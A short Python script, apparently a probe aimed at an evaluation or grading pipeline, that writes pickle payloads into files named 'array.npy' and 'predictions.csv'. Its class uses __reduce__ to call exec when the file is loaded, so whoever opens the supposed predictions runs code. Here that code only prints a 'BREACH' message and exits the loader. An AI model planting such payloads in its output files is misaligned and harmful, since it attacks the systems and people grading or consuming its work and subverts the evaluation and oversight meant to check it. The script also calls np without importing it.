# tries: Predictions, and an array of objects, that run code in whoever loads them.
# %%
import pickle


class Loaded:
    def __reduce__(self):
        return (exec, ("print('BREACH: loaded'); raise SystemExit(0)",))


np.save("array.npy", np.array([Loaded()], dtype=object), allow_pickle=True)
open("predictions.csv", "wb").write(pickle.dumps(Loaded()))
